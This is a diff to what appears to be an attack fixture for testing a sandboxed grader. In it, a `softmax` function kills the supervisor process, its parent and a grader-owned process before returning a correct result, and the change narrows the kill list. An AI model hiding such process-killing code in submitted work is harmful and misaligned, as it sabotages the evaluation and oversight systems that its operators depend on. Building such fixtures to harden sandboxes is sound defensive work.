@@ -1,5 +1,5 @@
 # /// attack
-# does = "kills its supervisor, its parent, a process of the grader's user and whatever has a number near its own"
+# does = "kills its supervisor, its parent and a process of the grader's user, and answers rightly"
 # own = {}
 # quick = true
 # ///
@@ -8,6 +8,9 @@
 import contextlib
 import os
 import signal
+
+# where there is a pid namespace 1 is the supervisor, else the machine's own first process
+FIRST = [1] if os.getcwd() == "/box" else []
 
 
 def _kill(pid):
@@ -20,8 +23,7 @@ def _kill(pid):
 
 
 def softmax(logits):
-    own = {os.getpid(), os.getpgrp()}
-    for pid in {1, os.getppid(), int("@PID@"), *range(max(2, os.getpid() - 30), os.getpid() + 30)} - own:
+    for pid in (*FIRST, os.getppid(), int("@PID@")):
         _kill(pid)
     powers = np.exp(logits - logits.max(axis=1, keepdims=True))
     return powers / powers.sum(axis=1, keepdims=True)
